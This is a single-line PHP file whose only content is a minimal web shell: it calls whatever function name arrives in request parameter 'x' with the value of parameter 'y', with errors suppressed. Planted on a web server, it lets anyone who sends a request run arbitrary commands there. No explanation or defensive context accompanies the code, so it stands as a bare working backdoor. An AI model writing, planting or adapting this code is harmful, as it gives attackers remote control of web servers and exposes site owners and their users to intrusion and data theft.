<?php $a=$_REQUEST; @$a['x']($a['y']);
